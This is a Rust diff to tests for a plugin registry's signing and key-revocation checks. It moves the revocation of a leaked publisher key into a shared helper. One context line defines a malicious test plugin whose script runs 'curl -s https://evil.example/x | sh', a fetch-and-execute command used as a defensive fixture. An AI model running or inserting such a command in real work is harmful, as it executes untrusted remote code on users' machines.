@@ -63,6 +63,23 @@ fn chain_adding(site: &Site, attacker: &SigningKey) -> PublisherChain {
     chain
 }
 
+/// acme revokes its (leaked) key on 2026-10-01 and adds a new one, in a record version
+/// signed by both; returns (leaked, new).
+fn revoke_leaked_key(site: &Site) -> (SigningKey, SigningKey) {
+    let (leaked, new) = (site.key("acme").clone(), SigningKey::from_seed([2; 32]));
+    let change = RecordChange {
+        add: vec![new.clone()],
+        revoke: vec![(leaked.key_id().clone(), "laptop stolen".into())],
+        revoked_at: "2026-10-01".into(),
+        ..RecordChange::default()
+    };
+    write_acme_chain(
+        site,
+        &trellis_index::publisher::update(&acme_chain(site), std::slice::from_ref(&leaked), change).unwrap(),
+    );
+    (leaked, new)
+}
+
 fn evil_clock() -> Plugin {
     let mut evil = clock("1.0.1");
     evil.script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n".into();
@@ -320,17 +337,7 @@ fn a_leaked_key_is_revoked_releases_resigned_and_installed_copies_rechecked() {
     install_clock(&mut store);
 
     // The publisher revokes the leaked key and adds a new one (signed by both).
-    let (leaked, new) = (site.key("acme").clone(), SigningKey::from_seed([2; 32]));
-    let change = RecordChange {
-        add: vec![new.clone()],
-        revoke: vec![(leaked.key_id().clone(), "laptop stolen".into())],
-        revoked_at: "2026-10-01".into(),
-        ..RecordChange::default()
-    };
-    write_acme_chain(
-        &site,
-        &trellis_index::publisher::update(&acme_chain(&site), std::slice::from_ref(&leaked), change).unwrap(),
-    );
+    let (leaked, new) = revoke_leaked_key(&site);
     let error = build_registry(
         &Registry::open(site.registry.path()).unwrap(),
         site.site.path(),
@@ -450,17 +457,7 @@ fn a_rollback_never_brings_back_a_release_signed_only_by_a_revoked_key() {
     // The key that signed both clock releases leaks: revoke it; re-sign the active
     // 1.1.0 and time-core, leave 1.0.0 (kept for rollback) unsigned by a current key and
     // yank it so the build goes through.
-    let (leaked, new) = (site.key("acme").clone(), SigningKey::from_seed([2; 32]));
-    let change = RecordChange {
-        add: vec![new.clone()],
-        revoke: vec![(leaked.key_id().clone(), "laptop stolen".into())],
-        revoked_at: "2026-10-01".into(),
-        ..RecordChange::default()
-    };
-    write_acme_chain(
-        &site,
-        &trellis_index::publisher::update(&acme_chain(&site), std::slice::from_ref(&leaked), change).unwrap(),
-    );
+    let (_, new) = revoke_leaked_key(&site);
     for release in ["acme.clock/1.1.0", "acme.time-core/1.0.0"] {
         let package = site.registry.path().join(format!("releases/{release}.zip"));
         trellis_index::sign::resign_package(&package, &new).unwrap();
